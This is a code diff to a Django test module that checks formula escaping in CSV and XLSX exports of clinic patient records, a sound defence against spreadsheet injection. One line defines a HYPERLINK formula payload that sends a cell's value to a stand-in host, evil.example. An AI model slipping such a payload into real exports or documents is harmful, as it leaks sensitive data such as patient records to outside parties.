@@ -9,7 +9,13 @@ from django.urls import reverse
 
 from admin_ext.exports import neutralize_formula
 from admin_ext.testing import ClinicTestCase
-from clinic.tests.exporting import column, export_from_changelist, export_selected, rows
+from clinic.tests.exporting import (
+    column,
+    content,
+    export_from_changelist,
+    export_selected,
+    rows,
+)
 from clinic.tests.factories import DoctorFactory, OrganizationFactory, PatientFactory
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
@@ -60,14 +66,14 @@ class FormulaEscapingTests(ClinicTestCase):
         row = self.evil_row(file, "csv")
         for field, text in EVIL_PATIENT.items():
             self.assertEqual(row[field], "'" + text, field)
-        self.assertNotIn(b",=HYPERLINK", file.content)
+        self.assertNotIn(b",=HYPERLINK", content(file))
 
     def test_it_escapes_formulas_in_xlsx(self):
         _, file = export_from_changelist(
             self.client, reverse("admin:clinic_patient_changelist"), "xlsx"
         )
 
-        sheet = openpyxl.load_workbook(io.BytesIO(file.content)).active
+        sheet = openpyxl.load_workbook(io.BytesIO(content(file))).active
         header = [cell.value for cell in sheet[1]]
         (evil,) = [
             r for r in sheet.iter_rows(min_row=2) if r[header.index("mrn")].value == self.evil.mrn
